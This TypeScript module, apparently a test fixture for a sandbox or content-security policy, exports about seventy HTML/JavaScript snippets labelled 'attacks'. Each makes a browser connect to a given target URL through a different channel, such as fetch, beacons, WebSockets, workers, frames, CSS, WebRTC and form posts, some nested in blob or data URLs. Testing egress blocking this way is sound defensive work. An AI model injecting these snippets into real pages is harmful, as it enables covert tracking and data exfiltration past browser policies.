/** Ways in which a page can make a browser connect to `target`, a URL without a path. */
export const attacks: Readonly<Record<string, (target: string) => string>> = {
	fetch: (target) =>
		`<script>fetch('${target}/fetch', { mode: 'no-cors' }).catch(() => {})</script>`,
	'fetch that outlives the page': (target) =>
		`<script>fetch('${target}/keepalive', { mode: 'no-cors', keepalive: true }).catch(() => {})</script>`,
	XMLHttpRequest: (target) =>
		`<script>{ const r = new XMLHttpRequest(); r.open('POST', '${target}/xhr'); r.send('x'); }</script>`,
	beacon: (target) => `<script>navigator.sendBeacon('${target}/beacon', 'x')</script>`,
	EventSource: (target) => `<script>new EventSource('${target}/events')</script>`,
	WebSocket: (target) => `<script>new WebSocket('${target.replace('http', 'ws')}/socket')</script>`,
	script: (target) => `<script src="${target}/script.js"></script>`,
	module: (target) => `<script type="module" src="${target}/module.js"></script>`,
	'dynamic import': (target) => `<script>import('${target}/import.js').catch(() => {})</script>`,
	stylesheet: (target) => `<link rel="stylesheet" href="${target}/style.css">`,
	'imported stylesheet': (target) => `<style>@import url(${target}/import.css);</style>`,
	'background image': (target) => `<div style="background:url(${target}/background.png)">x</div>`,
	font: (target) =>
		`<style>@font-face{font-family:a;src:url(${target}/font.woff)}p{font-family:a}</style><p>x</p>`,
	image: (target) => `<img src="${target}/image.png">`,
	'image set': (target) => `<img srcset="${target}/image-2x.png 2x">`,
	'image of a script': (target) => `<script>new Image().src = '${target}/new-image.png'</script>`,
	'SVG image': (target) => `<svg><image href="${target}/svg.png"/></svg>`,
	'SVG use': (target) => `<svg><use href="${target}/use.svg#a"/></svg>`,
	frame: (target) => `<iframe src="${target}/frame"></iframe>`,
	'frame in a sandbox': (target) => `<iframe sandbox src="${target}/sandboxed"></iframe>`,
	'frame with its own document': (target) =>
		`<iframe srcdoc="<img src='${target}/srcdoc.png'><script>fetch('${target}/srcdoc')</script>"></iframe>`,
	object: (target) => `<object data="${target}/object"></object>`,
	embed: (target) => `<embed src="${target}/embed">`,
	video: (target) =>
		`<video src="${target}/video.mp4" autoplay poster="${target}/poster.png"></video>`,
	audio: (target) => `<audio src="${target}/audio.mp3" autoplay></audio>`,
	track: (target) => `<video><track src="${target}/track.vtt" default></video>`,
	preload: (target) => `<link rel="preload" as="fetch" href="${target}/preload">`,
	prefetch: (target) => `<link rel="prefetch" href="${target}/prefetch">`,
	preconnect: (target) => `<link rel="preconnect" href="${target}">`,
	'DNS prefetch': (target) => `<link rel="dns-prefetch" href="${target}">`,
	icon: (target) => `<link rel="icon" href="${target}/favicon.ico">`,
	manifest: (target) => `<link rel="manifest" href="${target}/manifest.json">`,
	'speculation rules': (target) =>
		`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${target}/speculated"]}]}</script>`,
	form: (target) =>
		`<iframe name="t"></iframe><form action="${target}/form" method="post" target="t"></form><script>document.forms[0].submit()</script>`,
	ping: (target) => `<a id="p" href="#x" ping="${target}/ping">x</a><script>p.click()</script>`,
	popup: (target) => `<script>open('${target}/popup')</script>`,
	worker: (target) =>
		`<script>new Worker(URL.createObjectURL(new Blob(["fetch('${target}/worker',{mode:'no-cors'}).catch(()=>{});try{importScripts('${target}/imported.js')}catch{}"])))</script>`,
	'shared worker': (target) =>
		`<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch('${target}/shared',{mode:'no-cors'}).catch(()=>{})"])))</script>`,
	'service worker': () =>
		`<script>navigator.serviceWorker?.register('/worker.js').catch(() => {})</script>`,
	'redirect of a server': (target) =>
		`<script>fetch('/redirect?to=${encodeURIComponent(`${target}/redirected`)}', { mode: 'no-cors' }).catch(() => {})</script>`,
	'redirected frame': (target) =>
		`<iframe src="/redirect?to=${encodeURIComponent(`${target}/redirected-frame`)}"></iframe>`,
	'refreshing frame': (target) =>
		`<iframe srcdoc="<meta http-equiv=refresh content='0;url=${target}/refresh'>"></iframe>`,
	WebRTC: (target) =>
		`<script>{ const { hostname, port } = new URL('${target}'); const c = new RTCPeerConnection({ iceServers: [{ urls: ['stun:' + hostname + ':' + port, 'turn:' + hostname + ':' + port + '?transport=tcp'], username: 'a', credential: 'b' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }</script>`,
	WebTransport: (target) =>
		`<script>try { new WebTransport('${target.replace('http:', 'https:')}/transport').ready.catch(() => {}) } catch {}</script>`,
	reporting: (target) =>
		`<meta http-equiv="Content-Security-Policy-Report-Only" content="report-uri ${target}/csp">`,
	'module preload': (target) => `<link rel="modulepreload" href="${target}/modulepreload.js">`,
	'import map': (target) =>
		`<iframe srcdoc="<script type=importmap>{&quot;imports&quot;:{&quot;a&quot;:&quot;${target}/mapped.js&quot;}}</script><script type=module>import('a').catch(() => {})</script>"></iframe>`,
	'image button': (target) => `<input type="image" src="${target}/button.png" alt="x">`,
	'background attribute': (target) =>
		`<table background="${target}/table.png"><tr><td>x</td></tr></table>`,
	'CSS cursor, list, mask, border and content': (target) =>
		`<ul style="cursor:url(${target}/cursor.cur),auto;list-style-image:url(${target}/list.png);mask-image:url(${target}/mask.svg);border-image:url(${target}/border.png) 1"><li>x</li></ul><style>li::after{content:url(${target}/content.png)}</style>`,
	'CSS filter': (target) => `<p style="filter:url(${target}/filter.svg#f)">x</p>`,
	'stylesheet of a script': (target) =>
		`<script>{ const s = new CSSStyleSheet(); s.replaceSync('p{background:url(${target}/sheet.png)}'); document.adoptedStyleSheets = [s]; }</script>`,
	'stylesheet in a shadow root': (target) =>
		`<div id="host"></div><script>host.attachShadow({ mode: 'closed' }).innerHTML = '<link rel="stylesheet" href="${target}/shadow.css">';</script>`,
	'font of a script': (target) =>
		`<script>new FontFace('b', 'url(${target}/face.woff)').load().catch(() => {})</script>`,
	'SVG filter image': (target) =>
		`<svg><filter id="f"><feImage href="${target}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
	'frame in an SVG': (target) =>
		`<svg><foreignObject><iframe src="${target}/foreign"></iframe></foreignObject></svg>`,
	'frame of a data URL': (target) =>
		`<iframe src="data:text/html,<script>fetch('${target}/data',{mode:'no-cors'})</script>"></iframe>`,
	'frame of a blob': (target) =>
		`<script>{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>fetch('${target}/blob',{mode:'no-cors'})</" + "script>"], { type: 'text/html' })); document.body.append(f); }</script>`,
	'frame of a script URL': (target) =>
		`<iframe src="javascript:fetch('${target}/script-url',{mode:'no-cors'})"></iframe>`,
	'XML with a stylesheet': (target) =>
		`<script>{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<?xml-stylesheet type="text/xsl" href="${target}/x.xsl"?><a/>'], { type: 'text/xml' })); document.body.append(f); }</script>`,
	'script written into the page': (target) =>
		`<script>document.write('<script src="${target}/written.js"></' + 'script>')</script>`,
	'popup without a tie to its opener': (target) =>
		`<script>open('${target}/noopener', '_blank', 'noopener')</script>`,
	'navigation of a frame': (target) =>
		`<iframe name="n"></iframe><script>frames.n.location = '${target}/navigated'</script>`,
	'module worker': (target) =>
		`<script>new Worker(URL.createObjectURL(new Blob(["import('${target}/worker-module.js').catch(()=>{})"], { type: 'text/javascript' })), { type: 'module' })</script>`,
	'worker in a worker': (target) =>
		`<script>new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('${target}/nested',{mode:'no-cors'})\\"])))"])))</script>`,
	'WebSocket of a worker': (target) =>
		`<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('${target.replace('http', 'ws')}/worker-socket')"])))</script>`,
	'WebSocket stream': (target) =>
		`<script>try { new WebSocketStream('${target.replace('http', 'ws')}/stream').opened.catch(() => {}) } catch {}</script>`,
	worklets: (target) =>
		`<script>CSS.paintWorklet?.addModule('${target}/paint.js').catch(() => {}); new OfflineAudioContext(1, 1, 8000).audioWorklet?.addModule('${target}/audio.js').catch(() => {})</script>`,
	cache: (target) =>
		`<script>globalThis.caches?.open('a').then((c) => c.add(new Request('${target}/cache', { mode: 'no-cors' }))).catch(() => {})</script>`,
};
